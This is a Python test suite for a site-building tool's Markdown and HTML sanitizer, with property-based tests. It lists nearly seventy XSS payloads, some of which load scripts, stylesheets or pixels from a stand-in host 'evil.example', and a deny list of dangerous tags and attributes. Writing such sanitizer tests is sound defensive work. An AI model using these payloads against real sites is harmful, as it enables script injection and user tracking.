"""Nothing that runs, and nothing that asks another host, survives from editors' text."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from build_tools.prose import parse

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror = "alert(1)" alt="y">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="http://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="\\\\evil.example\\pixel.gif">',
    '<img srcset="http://evil.example/x 2x" src="a.jpg" alt="a">',
    "![x](http://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="#" onclick="alert(1)" onmouseover=alert(2)>x</a>',
    '<a href="x" target="_top" ping="http://evil.example/">x</a>',
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<form action="//evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<video src="http://evil.example/v.mp4" onerror=alert(1)></video>',
    '<audio src="http://evil.example/a.mp3" autoplay onplay=alert(1)></audio>',
    '<audio><source src="http://evil.example/a.mp3" onerror=alert(1)></audio>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>@import "http://evil.example/x.css";</style>',
    '<p style="background:url(http://evil.example/x.png)">x</p>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xss onafterscriptexecute=alert(1)>",
    '"><script>alert(1)</script>',
    "</p></article></main><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "::: step 5 <img src=x onerror=alert(1)>\n:::",
    '::: listen x" onmouseover="alert(1)\n:::',
    '<div class="listen" data-recording="x&quot; onclick=&quot;alert(1)">x</div>',
    '<div id="poche" name="getElementById">x</div>',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '![x](a.jpg "x\\" onload=\\"alert(1)")',
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    seen = _Seen()
    seen.feed(html)
    for tag, attributes in seen.tags:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "link",
            "meta",
            "base",
            "svg",
            "math",
            "template",
            "noscript",
            "video",
        }, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in {"style", "id", "name", "srcset", "target", "ping", "autoplay"}, name
            if name in ("href", "src"):
                plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert not re.match(r"(javascript|vbscript|data|file|blob):", plain), value
            if name == "src":
                assert (value or "").startswith("poche:"), value


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_does_not_survive(vector: str) -> None:
    for text in (vector, f"Before {vector} after.", f"- {vector}\n", f"> {vector}\n"):
        prose, _ = parse(text, path="content/pages/x/index.fr.md")
        assert_harmless(prose.html)


def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 60


@given(st.lists(st.sampled_from([*VECTORS, "\n\n", " ", "::: tip\n", ":::\n", "<p>", "*"])))
def test_mixtures_do_not_survive(pieces: list[str]) -> None:
    """Vectors joined in any order open nothing that each alone did not."""
    prose, _ = parse("".join(pieces), path="content/pages/x/index.fr.md")
    assert_harmless(prose.html)


def test_what_is_allowed_stays() -> None:
    """Figures, sound, tables, definition lists and language marks are what editors need."""
    text = (
        '<figure><img src="a.jpg" alt="A drum"><figcaption>A drum</figcaption></figure>\n\n'
        '<audio controls src="a.ogg"></audio>\n\n<span lang="de">Freude</span>'
        "\n\n| a |\n|---|\n| 1 |"
    )
    html = parse(text, path="content/works/x/index.fr.md")[0].html
    assert '<img src="poche:content/works/x/a.jpg" alt="A drum">' in html
    assert '<audio controls="" src="poche:content/works/x/a.ogg">' in html
    assert '<span lang="de">Freude</span>' in html
    assert "<figcaption>" in html and "<td>1</td>" in html


def test_removal_is_said_with_its_line() -> None:
    _, problems = parse(
        'Text\n\n<a href="javascript:alert(1)" onclick="x()">x</a>', path="a.md", first_line=5
    )
    assert {(p.code, p.location.line) for p in problems} == {("TXT06", 7)}
    assert {p.message.split(" is ")[0] for p in problems} == {"href in <a>", "onclick in <a>"}


@pytest.mark.parametrize(
    ("line", "address"),
    [
        ("[x](javascript:alert(1)) and more", "javascript:alert(1)"),
        ("[x](  <JavaScript:alert>)", "JavaScript:alert"),
        ("![x](data:text/html,x)", "data:text/html,x"),
        ("<vbscript:x>", "vbscript:x"),
        ("[x]: file:///C:/x.html", "file:///C:/x.html"),
    ],
)
def test_an_address_that_no_link_may_have_is_said(line: str, address: str) -> None:
    """Its brackets stand on the page: who wrote it should not learn it from a reader."""
    prose, problems = parse(f"Text\n\n{line}", path="a.md", first_line=5)
    (problem,) = problems
    assert (problem.code, problem.location.line) == ("TXT32", 7)
    assert f"'{address}'" in problem.message
    assert_harmless(prose.html)


def test_code_may_show_any_address() -> None:
    assert parse("Write `[x](javascript:x)`.\n\n    <file:x>", path="a.md")[1] == ()
